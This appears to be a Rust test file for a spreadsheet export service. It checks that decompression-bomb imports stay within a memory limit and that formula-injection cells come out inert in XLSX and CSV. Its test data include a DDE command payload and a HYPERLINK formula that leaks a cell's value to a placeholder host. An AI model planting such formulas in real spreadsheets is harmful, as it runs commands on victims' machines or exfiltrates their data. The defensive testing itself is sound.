//! Small files that could take much memory, and cells that a spreadsheet program would run.

use std::io::Read as _;

use axum::body::to_bytes;
use futures::{StreamExt as _, stream};

use super::super::read::read;
use super::super::{Exports, respond};
use super::table;
use crate::bombs;
use crate::both;
use crate::files::Files;
use crate::kernel::ctx::ReadCtx;

/// The most memory of a file: 16 MiB plus the overhead of the allocator.
const KEPT: usize = 20 * 1024 * 1024;

both! {
    async fn a_small_file_takes_much_memory(engine) {
        let files = bombs::all();
        let mut refused = 0;
        for (what, file) in &files {
            let small = read(file).map_or(true, |lines| {
                let cells = lines.iter().flat_map(|line| &line.cells);
                cells.map(|cell| cell.capacity() + size_of::<String>()).sum::<usize>() < KEPT
            });
            assert!(small, "{what}");
            refused += usize::from(small);
        }
        crate::attack::refused("a file of an import is made to take much memory", engine, files.len(), refused);
    }
}

both! {
    async fn a_cell_of_an_export_is_a_formula(engine) {
        let t = engine.kernel().await;
        let evil = [
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
            "=HYPERLINK(\"http://x.example/?\"&A1)", "=1\";=1", "=1,=1", "a\n=1+1", "a,\"=1\"",
        ];
        let rows: Vec<_> = evil.iter().map(|cell| vec![(*cell).to_owned()]).collect();
        let asker = ReadCtx::system(&t.kernel);
        let exports = Exports::new(Files::in_memory(&t.kernel));
        let answer = respond(&exports, table(), &asker, stream::iter([Ok(rows)]).boxed()).await.unwrap();
        let octets = to_bytes(answer.into_body(), usize::MAX).await.unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(octets)).unwrap();
        let mut part = |name: &str| {
            let mut file = Vec::new();
            zip.by_name(name).unwrap().read_to_end(&mut file).unwrap();
            file
        };
        // In the workbook every cell is a text, whatever it begins with; in both it begins with an apostrophe.
        let mut book = zip::ZipArchive::new(std::io::Cursor::new(part("list.xlsx"))).unwrap();
        let mut sheet = String::new();
        book.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
        let texts = sheet.matches("t=\"inlineStr\"").count();
        assert_eq!((sheet.contains("<f>"), texts, sheet.matches("<c ").count()), (false, 1 + evil.len(), 1 + evil.len()));
        let lines = part("list.csv");
        let lines = csv::ReaderBuilder::new().from_reader(lines.as_slice()).into_records();
        let cells: Vec<_> = lines.map(|line| line.unwrap()).collect();
        let runs = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        let plain = |line: &&csv::StringRecord| line.len() == 1 && !runs(&line[0]);
        assert_eq!(cells.len(), evil.len(), "a cell made another row");
        let held = cells.iter().filter(plain).count() + texts - 1;
        crate::attack::refused("a cell of an export is a formula", engine, 2 * evil.len(), held);
    }
}
